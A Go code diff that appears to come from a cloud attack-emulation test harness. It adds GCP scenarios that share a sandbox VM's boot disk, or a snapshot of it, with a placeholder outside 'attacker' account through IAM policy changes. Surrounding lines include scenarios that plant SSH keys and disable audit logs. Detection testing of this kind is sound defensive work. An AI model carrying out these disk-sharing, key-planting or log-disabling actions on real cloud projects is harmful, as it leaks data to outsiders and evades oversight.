@@ -190,6 +190,28 @@ func catalogueScenarios() []Scenario {
 				return w.setVMMetadata(ctx, w.Operator, "ssh-keys", "stratus:ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDrill stratus")
 			}},
 
+		{Name: "gcp.exfiltration.share-compute-disk", Kind: Attack, Actor: actorOther, Counterpart: "operator-list-keys",
+			Summary: "shares the sandbox's boot disk with an outside account: disks.setIamPolicy roles/compute.storageAdmin (allowed)",
+			Act: func(ctx context.Context, w *World) error {
+				p, z, d := w.Cfg.Cloud.GCP.Project, w.Cfg.Cloud.GCP.Zone, w.Sandbox.Name
+				_, err := w.Operator.Disks.SetIamPolicy(ctx, &computepb.SetIamPolicyDiskRequest{Project: p, Zone: z, Resource: d,
+					ZoneSetPolicyRequestResource: &computepb.ZoneSetPolicyRequest{Policy: shareWithAttacker()}})
+				return allowed(err, "disks.setIamPolicy "+d)
+			}},
+		{Name: "gcp.exfiltration.share-compute-snapshot", Kind: Attack, Actor: actorOther, Counterpart: "operator-list-keys",
+			Summary: "snapshots the sandbox's boot disk and shares the snapshot with an outside account: disks.createSnapshot (notified), snapshots.setIamPolicy (allowed)",
+			Act: func(ctx context.Context, w *World) error {
+				p, z, d := w.Cfg.Cloud.GCP.Project, w.Cfg.Cloud.GCP.Zone, w.Sandbox.Name
+				snap := d + "-stratus"
+				if _, err := w.Operator.Disks.CreateSnapshot(ctx, &computepb.CreateSnapshotDiskRequest{Project: p, Zone: z, Disk: d,
+					SnapshotResource: &computepb.Snapshot{Name: proto.String(snap)}}); err != nil {
+					return allowed(err, "disks.createSnapshot "+d)
+				}
+				_, err := w.Operator.Snapshots.SetIamPolicy(ctx, &computepb.SetIamPolicySnapshotRequest{Project: p, Resource: snap,
+					GlobalSetPolicyRequestResource: &computepb.GlobalSetPolicyRequest{Policy: shareWithAttacker()}})
+				return allowed(err, "snapshots.setIamPolicy "+snap)
+			}},
+
 		// Another principal around the sandbox: notified.
 		{Name: "gcp.defense-evasion.disable-audit-logs", Kind: Notify, Actor: actorOther, Counterpart: "operator-grant-viewer",
 			Summary: "turns off the project's Data Access audit logs for every service: Projects.SetIamPolicy auditConfigs (allowed)",
@@ -350,6 +372,12 @@ func actOf(name string) func(context.Context, *World) error {
 		}
 		return s.Act(ctx, w)
 	}
+}
+
+// shareWithAttacker is a Compute resource policy letting an outside
+// account use the resource (copy the disk into its own project).
+func shareWithAttacker() *computepb.Policy {
+	return &computepb.Policy{Bindings: []*computepb.Binding{{Role: proto.String("roles/compute.storageAdmin"), Members: []string{"user:stratus-red-team@example.com"}}}}
 }
 
 // grantOwner is c making member owner of the project res, which IAM
